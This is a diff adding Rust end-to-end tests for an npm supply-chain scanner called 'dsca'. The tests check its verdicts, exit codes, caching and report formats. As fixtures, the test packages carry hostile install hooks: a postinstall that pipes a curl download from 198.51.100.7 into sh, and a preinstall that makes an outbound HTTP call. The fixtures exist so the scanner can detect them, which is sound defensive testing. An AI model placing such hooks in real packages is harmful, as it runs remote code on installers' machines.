@@ -1,0 +1,584 @@
+//! `dsca scan` end to end, as a user runs it: the real binary against the local test
+//! registry (offline, deterministic), local tarballs and directories. Tests that need the
+//! real npm registry run only with DSCA_NETWORK_TESTS=1.
+
+use assert_cmd::Command;
+use dsca_test::{PackageBuilder, PublishOptions, TempHome, TestRegistry, network_tests_enabled};
+use serde_json::Value;
+use std::path::Path;
+
+/// Reports are judged against this clock so age rules do not drift with the calendar.
+const NOW: &str = "2026-01-15T12:00:00Z";
+const PUBLISHED: &str = "2025-06-01T10:00:00.000Z";
+
+fn dsca(home: &TempHome) -> Command {
+    let mut cmd = Command::cargo_bin("dsca").expect("the dsca binary is built");
+    cmd.envs(home.envs())
+        .env("DSCA_NOW", NOW)
+        .env_remove("NPM_CONFIG_REGISTRY")
+        .env_remove("npm_config_registry")
+        .env_remove("NO_COLOR")
+        .env_remove("CLICOLOR_FORCE")
+        .current_dir(home.project_dir());
+    cmd
+}
+
+struct Run {
+    code: i32,
+    stdout: String,
+    stderr: String,
+}
+
+impl Run {
+    fn json(&self) -> Value {
+        serde_json::from_str(&self.stdout).unwrap_or_else(|err| {
+            panic!(
+                "not JSON ({err}):\n{}\nstderr: {}",
+                self.stdout, self.stderr
+            )
+        })
+    }
+}
+
+fn run(cmd: &mut Command) -> Run {
+    let output = cmd.output().expect("run dsca");
+    Run {
+        code: output.status.code().expect("dsca exited normally"),
+        stdout: String::from_utf8(output.stdout).expect("stdout is UTF-8"),
+        stderr: String::from_utf8(output.stderr).expect("stderr is UTF-8"),
+    }
+}
+
+fn publish_at(registry: &TestRegistry, package: PackageBuilder) {
+    registry.publish_with(
+        package.build(),
+        PublishOptions {
+            time: Some(PUBLISHED.to_string()),
+            ..PublishOptions::default()
+        },
+    );
+}
+
+/// `demo-pkg` 1.0.0 is harmless; 1.1.0 adds a postinstall that pipes a download into a shell.
+fn registry_with_demo() -> TestRegistry {
+    let registry = TestRegistry::start();
+    let base = |version: &str| {
+        PackageBuilder::new("demo-pkg", version)
+            .manifest_field("description", "A demo package".into())
+            .manifest_field("repository", "github:demo/demo-pkg".into())
+            .file("index.js", "module.exports = 1;\n")
+    };
+    publish_at(&registry, base("1.0.0"));
+    publish_at(
+        &registry,
+        base("1.1.0").script("postinstall", "curl -s http://198.51.100.7/x.sh | sh"),
+    );
+    registry
+}
+
+fn rules_of(report: &Value) -> Vec<&str> {
+    report["findings"]
+        .as_array()
+        .expect("findings is an array")
+        .iter()
+        .map(|f| f["rule"].as_str().expect("rule id"))
+        .collect()
+}
+
+#[test]
+fn scans_a_range_from_the_registry_and_reports_json() {
+    let home = TempHome::new();
+    let registry = registry_with_demo();
+    let out = run(dsca(&home).args([
+        "scan",
+        "--registry",
+        registry.url(),
+        "--format",
+        "json",
+        "demo-pkg@^1",
+    ]));
+    assert_eq!(out.code, 0, "stderr: {}", out.stderr);
+    let report = out.json();
+    assert_eq!(report["package"]["version"], "1.1.0");
+    assert_eq!(report["package"]["purl"], "pkg:npm/demo-pkg@1.1.0");
+    assert_eq!(report["verdict"]["level"], "suspicious");
+    let rules = rules_of(&report);
+    for expected in ["DSCA101", "DSCA102", "DSCA103"] {
+        assert!(
+            rules.contains(&expected),
+            "{expected} missing from {rules:?}"
+        );
+    }
+    let redacted = out
+        .stdout
+        .replace(registry.url().trim_end_matches('/'), "http://[registry]");
+    insta::assert_snapshot!("demo_pkg_json", redacted);
+}
+
+#[test]
+fn fail_on_sets_the_exit_code() {
+    let home = TempHome::new();
+    let registry = registry_with_demo();
+    let scan = |threshold: &str| {
+        run(dsca(&home).args([
+            "scan",
+            "--registry",
+            registry.url(),
+            "--fail-on",
+            threshold,
+            "demo-pkg",
+        ]))
+    };
+    assert_eq!(
+        scan("high").code,
+        1,
+        "a high finding reaches --fail-on high"
+    );
+    assert_eq!(scan("critical").code, 0, "nothing critical");
+    let clean = run(dsca(&home).args([
+        "scan",
+        "--registry",
+        registry.url(),
+        "--fail-on",
+        "low",
+        "demo-pkg@1.0.0",
+    ]));
+    assert_eq!(clean.code, 0, "stdout: {}", clean.stdout);
+}
+
+#[test]
+fn text_report_is_plain_when_piped_and_coloured_on_request() {
+    let home = TempHome::new();
+    let registry = registry_with_demo();
+    let plain = run(dsca(&home).args(["scan", "--registry", registry.url(), "demo-pkg"]));
+    assert!(!plain.stdout.contains('\u{1b}'));
+    assert!(plain.stdout.contains("demo-pkg@1.1.0"));
+    assert!(plain.stdout.contains("SUSPICIOUS"));
+    assert!(plain.stdout.contains("Next steps:"));
+    let coloured = run(dsca(&home).args([
+        "scan",
+        "--color",
+        "always",
+        "--registry",
+        registry.url(),
+        "demo-pkg",
+    ]));
+    assert!(coloured.stdout.contains('\u{1b}'));
+    let no_color = run(dsca(&home)
+        .env("NO_COLOR", "1")
+        .env("CLICOLOR_FORCE", "1")
+        .args(["scan", "--registry", registry.url(), "demo-pkg"]));
+    assert!(!no_color.stdout.contains('\u{1b}'), "NO_COLOR wins");
+}
+
+#[test]
+fn integrity_mismatch_is_an_error_and_a_critical_finding() {
+    let home = TempHome::new();
+    let registry = TestRegistry::start();
+    let wrong = format!("sha512-{}", "A".repeat(86) + "==");
+    registry.publish_with(
+        PackageBuilder::new("tampered", "1.0.0").build(),
+        PublishOptions {
+            integrity_override: Some(wrong),
+            ..PublishOptions::default()
+        },
+    );
+    let out = run(dsca(&home).args([
+        "scan",
+        "--registry",
+        registry.url(),
+        "--format",
+        "json",
+        "tampered",
+    ]));
+    assert_eq!(out.code, 2);
+    let report = out.json();
+    assert_eq!(report["verdict"]["level"], "malicious");
+    assert_eq!(rules_of(&report)[0], "DSCA501");
+    assert_eq!(report["findings"][0]["severity"], "critical");
+    assert_eq!(report["errors"][0]["code"], "integrity-mismatch");
+    assert_eq!(
+        out.stderr.lines().count(),
+        1,
+        "one line on stderr: {}",
+        out.stderr
+    );
+    assert!(out.stderr.contains("integrity"));
+    let content = home.cache_dir().join("content");
+    let cached = walk_files(&content);
+    assert!(
+        cached.is_empty(),
+        "nothing unverified is cached: {cached:?}"
+    );
+}
+
+fn walk_files(dir: &Path) -> Vec<String> {
+    let Ok(entries) = std::fs::read_dir(dir) else {
+        return Vec::new();
+    };
+    entries
+        .flatten()
+        .flat_map(|entry| {
+            let path = entry.path();
+            if path.is_dir() {
+                walk_files(&path)
+            } else {
+                vec![path.display().to_string()]
+            }
+        })
+        .collect()
+}
+
+#[test]
+fn unknown_package_is_a_one_line_error() {
+    let home = TempHome::new();
+    let registry = TestRegistry::start();
+    let out = run(dsca(&home).args(["scan", "--registry", registry.url(), "no-such-package"]));
+    assert_eq!(out.code, 2);
+    assert_eq!(out.stderr.lines().count(), 1, "{}", out.stderr);
+    assert!(
+        out.stderr.contains("no-such-package") && out.stderr.contains("not found"),
+        "{}",
+        out.stderr
+    );
+}
+
+#[test]
+fn security_placeholder_is_reported_as_malware() {
+    let home = TempHome::new();
+    let registry = TestRegistry::start();
+    registry.publish(
+        PackageBuilder::new("evilpkg", "0.0.1-security")
+            .manifest_field("description", "security holding package".into())
+            .build(),
+    );
+    let out = run(dsca(&home).args([
+        "scan",
+        "--registry",
+        registry.url(),
+        "--format",
+        "json",
+        "evilpkg",
+    ]));
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let report = out.json();
+    assert_eq!(report["verdict"]["level"], "malicious");
+    assert!(rules_of(&report).contains(&"DSCA407"));
+}
+
+#[test]
+fn offline_scans_come_from_the_cache() {
+    let home = TempHome::new();
+    let registry = registry_with_demo();
+    let args = [
+        "scan",
+        "--registry",
+        registry.url(),
+        "--format",
+        "json",
+        "demo-pkg@1.1.0",
+    ];
+    let online = run(dsca(&home).args(args));
+    assert_eq!(online.code, 0, "{}", online.stderr);
+    let requests_before = registry.requests().len();
+    let offline = run(dsca(&home).args(args).arg("--offline"));
+    assert_eq!(offline.code, 0, "{}", offline.stderr);
+    assert_eq!(offline.json(), online.json());
+    assert_eq!(
+        registry.requests().len(),
+        requests_before,
+        "offline touched the network"
+    );
+
+    let empty = TempHome::new();
+    let miss = run(dsca(&empty).args([
+        "scan",
+        "--offline",
+        "--registry",
+        registry.url(),
+        "demo-pkg",
+    ]));
+    assert_eq!(miss.code, 2);
+    assert!(miss.stderr.contains("cache"), "{}", miss.stderr);
+}
+
+#[test]
+fn project_npmrc_supplies_registry_and_token() {
+    let home = TempHome::new();
+    let registry = registry_with_demo();
+    registry.require_token("s3cret-token");
+    let host = registry.url().trim_start_matches("http:");
+    home.write_project_npmrc(&format!(
+        "registry={}\n{host}:_authToken=${{DEMO_TOKEN}}\n",
+        registry.url()
+    ));
+    let out = run(dsca(&home)
+        .env("DEMO_TOKEN", "s3cret-token")
+        .args(["scan", "--format", "json", "demo-pkg"]));
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert_eq!(out.json()["package"]["version"], "1.1.0");
+    assert!(
+        registry
+            .requests()
+            .iter()
+            .all(|(_, _, auth)| auth.as_deref() == Some("Bearer s3cret-token"))
+    );
+}
+
+#[test]
+fn local_tarball_and_directory_are_scanned_without_a_registry() {
+    let home = TempHome::new();
+    let tarball = home.project_dir().join("local-1.0.0.tgz");
+    std::fs::write(
+        &tarball,
+        PackageBuilder::new("local", "1.0.0")
+            .script(
+                "preinstall",
+                "node -e \"require('http').get('http://192.0.2.1')\"",
+            )
+            .build(),
+    )
+    .expect("write tarball");
+    let out = run(dsca(&home).args(["scan", "--format", "json", "./local-1.0.0.tgz"]));
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let report = out.json();
+    assert_eq!(report["package"]["name"], "local");
+    assert_eq!(report["source"]["kind"], "tarball");
+    assert!(
+        report["package"]["integrity"]
+            .as_str()
+            .is_some_and(|i| i.starts_with("sha512-"))
+    );
+    assert!(rules_of(&report).contains(&"DSCA102"));
+
+    let dir = home.project_dir().join("unpacked");
+    std::fs::create_dir_all(&dir).expect("mkdir");
+    std::fs::write(
+        dir.join("package.json"),
+        r#"{"name": "unpacked", "version": "2.0.0", "scripts": {"prepare": "node build.js"}}"#,
+    )
+    .expect("write package.json");
+    let out = run(dsca(&home).args(["scan", "--format", "json", "./unpacked/"]));
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let report = out.json();
+    assert_eq!(report["source"]["kind"], "directory");
+    assert_eq!(report["package"]["version"], "2.0.0");
+    assert!(
+        rules_of(&report).contains(&"DSCA101"),
+        "prepare runs for a checkout"
+    );
+}
+
+#[test]
+fn corrupt_tarball_is_a_clear_error() {
+    let home = TempHome::new();
+    let mut bytes = PackageBuilder::new("cut", "1.0.0")
+        .file("a.js", "x".repeat(5000))
+        .build();
+    bytes.truncate(bytes.len() / 2);
+    std::fs::write(home.project_dir().join("cut.tgz"), bytes).expect("write");
+    let out = run(dsca(&home).args(["scan", "./cut.tgz"]));
+    assert_eq!(out.code, 2);
+    assert_eq!(out.stderr.lines().count(), 1, "{}", out.stderr);
+    assert!(out.stderr.contains("truncated"), "{}", out.stderr);
+}
+
+#[test]
+fn several_specs_give_a_json_array_in_order() {
+    let home = TempHome::new();
+    let registry = registry_with_demo();
+    let out = run(dsca(&home).args([
+        "scan",
+        "--registry",
+        registry.url(),
+        "--format",
+        "json",
+        "demo-pkg@1.0.0",
+        "demo-pkg@1.1.0",
+        "nope",
+    ]));
+    assert_eq!(out.code, 2, "one spec failed");
+    let reports = out.json();
+    let versions: Vec<&Value> = reports
+        .as_array()
+        .expect("array")
+        .iter()
+        .map(|r| &r["package"]["version"])
+        .collect();
+    assert_eq!(
+        versions,
+        [&Value::from("1.0.0"), &Value::from("1.1.0"), &Value::Null]
+    );
+    assert!(reports[2]["verdict"].is_null());
+
+    let lines = run(dsca(&home).args([
+        "scan",
+        "--registry",
+        registry.url(),
+        "--format",
+        "jsonl",
+        "demo-pkg@1.0.0",
+        "demo-pkg@1.1.0",
+    ]));
+    assert_eq!(lines.stdout.lines().count(), 2);
+    for line in lines.stdout.lines() {
+        serde_json::from_str::<Value>(line).expect("each line is a JSON document");
+    }
+}
+
+fn validate(schema: &Value, document: &Value) -> Vec<String> {
+    let validator = jsonschema::options()
+        .should_validate_formats(true)
+        .build(schema)
+        .expect("schema compiles");
+    validator
+        .iter_errors(document)
+        .map(|e| format!("{e} at {}", e.instance_path))
+        .collect()
+}
+
+fn read_json(path: &Path) -> Value {
+    serde_json::from_str(&std::fs::read_to_string(path).expect("read")).expect("JSON")
+}
+
+#[test]
+fn json_and_sarif_outputs_validate_against_their_schemas() {
+    let home = TempHome::new();
+    let registry = registry_with_demo();
+    let workspace = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
+    let specs = ["demo-pkg@1.0.0", "demo-pkg@1.1.0", "missing-pkg"];
+
+    let json = home.path().join("report.json");
+    let out = run(dsca(&home)
+        .args([
+            "scan",
+            "--registry",
+            registry.url(),
+            "--format",
+            "json",
+            "--output",
+        ])
+        .arg(&json)
+        .args(specs));
+    assert_eq!(out.code, 2);
+    assert!(out.stdout.is_empty(), "--output leaves stdout empty");
+    let schema = read_json(&workspace.join("schema/report.schema.json"));
+    let errors = validate(&schema, &read_json(&json));
+    assert!(errors.is_empty(), "{errors:#?}");
+
+    let sarif = home.path().join("report.sarif");
+    run(dsca(&home)
+        .args([
+            "scan",
+            "--registry",
+            registry.url(),
+            "--format",
+            "sarif",
+            "-o",
+        ])
+        .arg(&sarif)
+        .args(specs));
+    let schema =
+        read_json(&workspace.join("crates/dsca-report/tests/data/sarif-schema-2.1.0.json"));
+    let document = read_json(&sarif);
+    let errors = validate(&schema, &document);
+    assert!(errors.is_empty(), "{errors:#?}");
+    assert_eq!(
+        document["runs"][0]["results"].as_array().map(Vec::len),
+        Some(rules_of(&read_json(&json)[1]).len())
+    );
+}
+
+#[test]
+fn output_to_an_unwritable_place_fails_without_a_partial_file() {
+    let home = TempHome::new();
+    let registry = registry_with_demo();
+    let target = home.path().join("no-such-dir/report.json");
+    let out = run(dsca(&home)
+        .args([
+            "scan",
+            "--registry",
+            registry.url(),
+            "--format",
+            "json",
+            "--output",
+        ])
+        .arg(&target)
+        .arg("demo-pkg"));
+    assert_eq!(out.code, 2);
+    assert!(
+        out.stderr.starts_with("dsca: error: cannot write"),
+        "{}",
+        out.stderr
+    );
+    assert!(!target.exists());
+}
+
+#[test]
+fn bad_arguments_exit_2() {
+    let home = TempHome::new();
+    assert_eq!(run(dsca(&home).args(["scan"])).code, 2);
+    assert_eq!(
+        run(dsca(&home).args(["scan", "--fail-on", "severe", "x"])).code,
+        2
+    );
+    assert_eq!(run(dsca(&home).args(["scan", "pkg:pypi/requests"])).code, 2);
+    let missing = run(dsca(&home).args(["scan", "./missing.tgz"]));
+    assert_eq!(missing.code, 2);
+    assert!(missing.stderr.contains("missing.tgz"), "{}", missing.stderr);
+}
+
+#[test]
+fn rules_lists_every_rule() {
+    let home = TempHome::new();
+    let out = run(dsca(&home).args(["rules", "--json"]));
+    assert_eq!(out.code, 0);
+    let rules = out.json();
+    let ids: Vec<&str> = rules
+        .as_array()
+        .expect("array")
+        .iter()
+        .filter_map(|r| r["id"].as_str())
+        .collect();
+    assert!(ids.contains(&"DSCA101") && ids.contains(&"DSCA501"));
+    assert!(
+        rules
+            .as_array()
+            .expect("array")
+            .iter()
+            .all(|r| r["next_steps"].as_str().is_some_and(|s| !s.is_empty()))
+    );
+}
+
+#[test]
+fn network_scans_real_packages() {
+    if !network_tests_enabled("network_scans_real_packages") {
+        return;
+    }
+    let home = TempHome::new();
+    let out = run(dsca(&home).env_remove("DSCA_NOW").args([
+        "scan",
+        "--format",
+        "json",
+        "lodash@4.17.21",
+        "express@^4",
+        "pkg:npm/%40babel/core@7.24.0",
+        "crossenv",
+    ]));
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let reports = out.json();
+    assert_eq!(reports[0]["package"]["version"], "4.17.21");
+    assert!(
+        reports[1]["package"]["version"]
+            .as_str()
+            .is_some_and(|v| v.starts_with("4."))
+    );
+    assert_eq!(reports[2]["package"]["name"], "@babel/core");
+    assert_eq!(
+        reports[3]["verdict"]["level"], "malicious",
+        "crossenv is npm's placeholder for malware"
+    );
+    for report in reports.as_array().expect("array").iter().take(3) {
+        assert_ne!(report["verdict"]["level"], "malicious", "{report}");
+    }
+}
